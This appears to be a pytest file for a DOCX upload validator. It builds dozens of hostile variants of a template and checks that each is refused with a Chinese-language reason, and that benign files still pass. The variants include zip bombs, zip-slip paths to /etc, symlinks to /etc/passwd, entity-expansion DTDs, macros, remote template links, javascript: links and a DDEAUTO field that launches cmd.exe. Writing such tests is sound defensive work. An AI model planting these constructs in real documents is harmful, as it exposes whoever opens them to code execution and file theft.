"""Hostile uploads, each the shipped template with one thing wrong; and what must still be let in."""

import io
import zipfile
from collections.abc import Callable

import pytest

from pipeline.config import packaged
from pipeline.outputs.package import pack, unpack
from pipeline.steps.upload import MAX_ENTRIES, READING, Hazard, refused
from spent import computing

GOOD = (packaged("templates") / "gongwen.docx").read_bytes()
PARTS = unpack(GOOD)
BODY = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"


def changed(name: str, old: str, new: str) -> bytes:
    assert old.encode() in PARTS[name]
    return pack(PARTS | {name: PARTS[name].replace(old.encode(), new.encode(), 1)})


def with_body(xml: str) -> bytes:
    return changed(BODY, "<w:body>", f"<w:body>{xml}")


def related(kind: str, target: str, *, mode: str = ' TargetMode="External"') -> bytes:
    return changed(
        RELATIONS,
        "</Relationships>",
        f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>',
    )


def field(*pieces: str) -> str:
    inner = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def zipped(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, data in (PARTS | entries).items():
            archive.writestr(name, data)
    return target.getvalue()


def of_type(media: str) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return changed(TYPES, main, media)


def linked_entry() -> bytes:
    target = io.BytesIO(GOOD)
    with zipfile.ZipFile(target, "a") as archive:
        entry = zipfile.ZipInfo("word/media/logo.png")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return target.getvalue()


def twice() -> bytes:
    target = io.BytesIO(GOOD)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("Word/Document.xml", b"<x/>")
    return target.getvalue()


def marked_as_encrypted() -> bytes:
    at = GOOD.find(b"PK\x01\x02") + 8
    return GOOD[:at] + b"\x01" + GOOD[at + 1 :]


def deep(levels: int) -> bytes:
    return with_body("<w:p>" * levels + "</w:p>" * levels)


def compound(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + stream.encode("utf-16-le")


BOMB = b"0" * (30 * 1024 * 1024)
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "no bytes": (lambda: b"", "0 字节"),
    "text": (lambda: "第五三五期".encode(), "不是 DOCX 文件"),
    "a page named .docx": (lambda: b"<html><body>x</body></html>", "不是 DOCX 文件"),
    "cut short": (lambda: GOOD[: len(GOOD) // 2], "已损坏"),
    "a byte turned": (lambda: GOOD[:900] + bytes([GOOD[900] ^ 0xFF]) + GOOD[901:], "已损坏"),
    "encrypted": (lambda: compound("EncryptedPackage"), "已加密"),
    "an old .doc": (lambda: compound("WordDocument"), "旧版 Word"),
    "an old .xls": (lambda: compound("Workbook"), "旧版 Office"),
    "an encrypted entry": (marked_as_encrypted, "已加密"),
    "an ordinary archive": (lambda: pack({"notes.txt": b"x"}), "普通压缩包"),
    "a spreadsheet": (
        lambda: of_type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        "Excel",
    ),
    "a .dotx": (
        lambda: of_type("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
        "dotx",
    ),
    "strict": (
        lambda: changed(BODY, "schemas.openxmlformats.org/wordprocessingml/2006/", "purl.oclc.org/ooxml/word/"),
        "Strict",
    ),
    "a zip bomb": (lambda: zipped({"word/media/a.bin": BOMB}), "压缩比"),
    "a bomb without a ratio": (
        lambda: zipped({f"word/media/{n}.bin": BOMB for n in range(3)}, zipfile.ZIP_STORED),
        "超过 64 MiB",
    ),
    "a bomb in pieces": (
        lambda: zipped({f"word/media/{n}.bin": b"0" * 1000_000 for n in range(60)}),
        "压缩比",
    ),
    "too many entries": (lambda: zipped({f"word/{n}.bin": b"" for n in range(MAX_ENTRIES)}), "个部件"),
    "zip slip": (lambda: zipped({"../../etc/cron.d/x": b"x"}), "越界"),
    "zip slip the Windows way": (lambda: zipped({"word\\..\\..\\x": b"x"}), "越界"),
    "an absolute name": (lambda: zipped({"/etc/x": b"x"}), "越界"),
    "a drive": (lambda: zipped({"C:/x": b"x"}), "越界"),
    "a symbolic link": (linked_entry, "链接"),
    "two parts of one name": (twice, "同名"),
    "another compression": (lambda: zipped({}, zipfile.ZIP_LZMA), "压缩方法"),
    "broken XML": (lambda: changed(BODY, "</w:p>", ""), "word/document.xml 的内容已损坏"),
    "an encoding nobody knows": (lambda: changed(BODY, 'encoding="UTF-8"', 'encoding="x-none"'), "已损坏"),
    "a DTD": (lambda: changed(BODY, "<w:document", "<!DOCTYPE w:document><w:document"), "DTD"),
    "entities that grow": (lambda: changed(BODY, "<w:document", f"{ENTITIES}<w:document"), "DTD"),
    "a DTD in UTF-16": (
        lambda: pack(PARTS | {"word/x.xml": '<?xml version="1.0"?><!DOCTYPE x><x/>'.encode("utf-16")}),
        "DTD",
    ),
    "a DTD in a part of any name": (
        lambda: pack(
            PARTS
            | {
                "word/x.dat": b"<!DOCTYPE x><x/>",
                TYPES: PARTS[TYPES].replace(
                    b"<Default ", b'<Default Extension="dat" ContentType="text/xml"/><Default ', 1
                ),
            }
        ),
        "DTD",
    ),
    "deep nesting": (lambda: deep(300), "嵌套"),
    "macros": (lambda: zipped({"word/vbaProject.bin": b"x"}), "宏"),
    "macros by relationship": (lambda: related(f"{MICROSOFT}/vbaProject", "x.bin", mode=""), "宏"),
    "a .docm": (lambda: of_type(MACRO), "宏"),
    "a web add-in": (
        lambda: related(
            "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "x.xml", mode=""
        ),
        "宏",
    ),
    "a linked template": (lambda: related(f"{OFFICE}/attachedTemplate", "http://203.0.113.9/x.dotm"), "外部模板"),
    "a linked picture": (lambda: related(f"{OFFICE}/image", "http://203.0.113.9/x.png"), "外部链接"),
    "a linked picture in VML": (
        lambda: with_body(
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="\\\\203.0.113.9\\x"/>'
            "</v:shape></w:pict></w:r></w:p>"
        ),
        "外部链接",
    ),
    "a frame": (lambda: related(f"{OFFICE}/frame", "http://203.0.113.9/"), "外部链接"),
    "a link to a share": (lambda: related(f"{OFFICE}/hyperlink", "file://203.0.113.9/x"), "不是网址"),
    "a link that runs": (lambda: related(f"{OFFICE}/hyperlink", "javascript:alert(1)"), "不是网址"),
    "a link in a field": (lambda: with_body(field(' HYPERLINK "\\\\203.0.113.9\\x" ')), "不是网址"),
    "a target outside": (lambda: related(f"{OFFICE}/image", "../../../etc/passwd", mode=""), "文件之外"),
    "a target outside, escaped": (lambda: related(f"{OFFICE}/image", "%2e%2e/%2e%2e/x", mode=""), "文件之外"),
    "an internal target with a scheme": (lambda: related(f"{OFFICE}/image", "file:///etc/passwd", mode=""), "文件之外"),
    "an OLE object": (lambda: related(f"{OFFICE}/oleObject", "embeddings/x.bin", mode=""), "嵌入"),
    "an embedded workbook": (lambda: related(f"{OFFICE}/package", "embeddings/x.xlsx", mode=""), "嵌入"),
    "ActiveX": (lambda: related(f"{OFFICE}/control", "activeX/x.xml", mode=""), "嵌入"),
    "an altChunk": (lambda: with_body("<w:altChunk/>"), "嵌入"),
    "mail merge": (
        lambda: changed("word/settings.xml", "<w:zoom", "<w:mailMerge/><w:zoom"),
        "外部链接",
    ),
    "DDE": (lambda: with_body(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')), "域（DDEAUTO"),
    "DDE in pieces": (lambda: with_body(field(" D", "DE", "AUTO x ")), "域（DDEAUTO"),
    "DDE that never ends": (
        lambda: with_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r></w:p>'),
        "域（DDE",
    ),
    "DDE in disguise": (lambda: with_body(field(" QUOTE 68 68 69 ")), "域（QUOTE"),
    "INCLUDETEXT": (lambda: with_body('<w:p><w:fldSimple w:instr=" includetext x "/></w:p>'), "域（includetext"),
    "INCLUDEPICTURE, deleted": (
        lambda: with_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del><w:r><w:delInstrText>INCLUDEPICTURE x'
            '</w:delInstrText></w:r></w:del><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "域（INCLUDEPICTURE",
    ),
    "INCLUDE in a footer": (
        lambda: changed("word/footer1.xml", " PAGE ", " INCLUDE x "),
        "域（INCLUDE",
    ),
}


@pytest.mark.parametrize(("make", "reason"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason(make: Callable[[], bytes], reason: str) -> None:
    data = make()
    with computing(2):
        found = refused(data)
    assert reason in found
    assert not found.endswith("。")


def test_the_shipped_template_is_safe() -> None:
    assert refused(GOOD) == ""


@pytest.mark.parametrize(
    "make",
    [
        lambda: related(f"{OFFICE}/hyperlink", "https://news.example.cn/a?b=1#c"),
        lambda: related(f"{OFFICE}/hyperlink", "mailto:office@example.cn"),
        lambda: related(f"{OFFICE}/customXml", "../customXml/item1.xml", mode=""),
        lambda: related(f"{OFFICE}/image", "/word/media/logo.png", mode=""),
        lambda: with_body(field(" PAGE ", " \\* MERGEFORMAT ")),
        lambda: with_body(field(' HYPERLINK \\l "item_a1" ')),
        lambda: with_body(field(" = 1 + 1 ")),
        lambda: zipped({"word/": b"", "word/media/logo.svg": b"<!DOCTYPE svg><svg/>"}),
        lambda: zipped({"word/media/white.bmp": b"\xff" * 900_000}),
        lambda: changed(BODY, "期", "期 DDEAUTO {{7*7}} INCLUDETEXT"),
    ],
    ids=[
        "a web address",
        "an e-mail address",
        "custom XML",
        "a picture by its absolute part name",
        "a page number",
        "a link within",
        "a formula",
        "folders and a vector picture",
        "a white picture",
        "text that only reads like a field",
    ],
)
def test_what_word_and_wps_write_is_let_in(make: Callable[[], bytes]) -> None:
    assert refused(make()) == ""


def test_a_reader_of_text_may_allow_what_does_not_concern_it() -> None:
    linked = related(f"{OFFICE}/attachedTemplate", "file:///C:/Normal.dotm")
    assert refused(linked, allowing={Hazard.TEMPLATE}) == ""
    assert refused(linked, allowing=READING) == ""
    assert "外部模板" in refused(linked, allowing=set(Hazard) - {Hazard.TEMPLATE})


def test_reading_allows_neither_macros_nor_what_breaks_a_reader() -> None:
    assert "宏" in refused(zipped({"word/vbaProject.bin": b"x"}), allowing=READING)
    for name in ("a DTD", "a zip bomb", "zip slip", "broken XML", "encrypted"):
        make, reason = HOSTILE[name]
        assert reason in refused(make(), allowing=set(Hazard))
